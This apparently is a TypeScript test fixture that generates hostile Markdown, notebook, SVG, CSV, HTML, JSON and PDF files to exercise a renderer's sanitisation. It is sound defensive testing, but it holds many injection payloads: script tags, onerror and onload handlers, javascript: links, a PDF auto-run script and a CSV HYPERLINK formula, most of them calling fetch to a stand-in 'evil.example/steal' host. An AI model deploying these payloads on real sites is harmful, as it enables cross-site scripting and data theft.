/** A PDF with one page for each text, and a script that asks to be run when it is opened. */
export function pdfOf(texts: readonly string[]): string {
  const pages = texts.map((_, at) => `${4 + at * 2} 0 R`).join(" ");
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert('pdf')) >> >>",
    `<< /Type /Pages /Kids [${pages}] /Count ${texts.length} >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...texts.flatMap((text, at) => {
      const drawn = `BT /F1 24 Tf 72 700 Td (${text}) Tj ET`;
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${5 + at * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
        `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
      ];
    }),
  ];
  let file = "%PDF-1.4\n";
  const places = objects.map((object, at) => {
    const place = file.length;
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  const start = file.length;
  return `${file}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
}

/** Runs, were anything of it to run: the page would be marked, and this address called. */
const harm = "document.documentElement.dataset.harmed='yes';fetch('https://evil.example/steal')";

const markdown = `# Report

<script>${harm}</script>
<img src="https://evil.example/raw.png" onerror="${harm}">
<iframe src="https://evil.example/frame"></iframe>
<style>* { display: none !important }</style>

[run](javascript:${encodeURIComponent(harm)}) and [data](data:text/html,${encodeURIComponent(`<script>${harm}</script>`)})
and [out](https://example.org/page) and [beside](notes%20۲.md) and [api](/api/stoa/v1/auth/sign-out)

![plot](img/plot.png) ![away](https://evil.example/pixel.png) ![api](/api/stoa/v1/auth/sign-out)

| left | راست |
| :-- | --: |
| 1 | سلام |

- [x] done
- [ ] open

\`\`\`python
print("code")
\`\`\`

این بند فارسی است و از راست خوانده می‌شود.

A word without end: ${"x".repeat(300)}

Marks without end: Z${"\u0335\u0347\u033b\u0348\u0350".repeat(40)}
`;

const notebook = {
  nbformat: 4,
  nbformat_minor: 5,
  metadata: {},
  cells: [
    { cell_type: "markdown", source: ["# Notebook\n", `<img src=x onerror="${harm}">\n`] },
    {
      cell_type: "code",
      execution_count: 7,
      source: "print('hello')",
      outputs: [
        { output_type: "stream", name: "stdout", text: ["\u001b[32mhello\u001b[0m\n"] },
        {
          output_type: "display_data",
          data: { "text/html": `<script>${harm}</script><b>bold</b>`, "application/javascript": harm },
        },
        { output_type: "display_data", data: { "application/javascript": harm } },
        {
          output_type: "display_data",
          data: {
            "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${harm}"><rect width="40" height="40"/></svg>`,
          },
        },
        { output_type: "display_data", data: { "image/png": `x" onerror="${harm}` } },
        { output_type: "error", ename: "ValueError", evalue: "bad", traceback: ["\u001b[31mValueError\u001b[0m: bad"] },
      ],
    },
  ],
};

const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80">
<script>${harm}</script><image href="https://evil.example/in-svg.png" width="9" height="9"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/frame"/></foreignObject>
<circle cx="60" cy="40" r="30" fill="teal" onload="${harm}"/></svg>`;

/** One file of each kind, each meaning as much harm as its kind can. */
export const hostileFiles: Readonly<Record<string, string>> = {
  "read.md": markdown,
  "notes ۲.md": "# یادداشت\n\nسلام\n",
  "run.ipynb": JSON.stringify(notebook),
  "drawing.svg": svg,
  "table.csv": `name,value,نام\n=HYPERLINK("https://evil.example"),"<img src=x onerror=${harm}>",پریسا\n\u202eevil,"a,b",3\n`,
  "page.html": `<!doctype html><script>${harm}</script><img src="https://evil.example/html.png"><h1>Page</h1>`,
  "data.json": '{"big":12345678901234567890,"list":[1,2,{"a":null}],"html":"</script><script>alert(1)</script>"}',
  "paper.pdf": pdfOf(["First page here", "Second page here"]),
  "broken.pdf": "%PDF-1.4 no more",
  "tool.bin": "PK\u0003\u0004\u0000\u0001binary",
};
